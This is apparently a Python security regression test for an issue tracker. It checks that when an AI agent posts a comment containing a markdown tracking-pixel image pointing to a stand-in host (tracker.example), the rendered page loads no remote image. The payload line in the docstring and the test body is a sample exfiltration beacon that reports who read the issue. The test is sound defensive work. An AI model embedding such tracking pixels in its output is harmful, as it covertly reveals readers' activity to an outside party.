"""Issue 16 item 15, replayed against a live server: a tracking pixel in an agent's comment does not load.

The attack: an agent comments ``![](https://tracker.example/pixel.gif?reader=...)``; every human who
opens the issue would fetch it, telling the tracker who read it and when.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from issues.comments import do_comment_create
from orgs.actors import Actor
from tests.factories import make_agent, make_issue, make_org
from tests.security.live import fetch, operator_cookie

pytestmark = pytest.mark.django_db(transaction=True)


def test_an_agents_comment_renders_no_remote_image(live_server: Any) -> None:
    org = make_org(slug="acme", issue_prefix="ACME")
    agent = make_agent(org, slug="spy")
    issue = make_issue(org, title="Anything")
    do_comment_create(
        actor=Actor.for_agent(agent),
        issue=issue,
        body="Done. ![](https://tracker.example/pixel.gif?reader=board) ![ok](/static/ok.png)",
    )

    page = fetch(f"{live_server.url}/issues/{issue.key}/", cookie=operator_cookie())

    assert page.status == 200 and "Done." in page.body
    sources = re.findall(r'<img[^>]*\ssrc="([^"]*)"', page.body)
    assert "/static/ok.png" in sources
    assert not [s for s in sources if "tracker.example" in s]
    assert "tracker.example" not in page.body
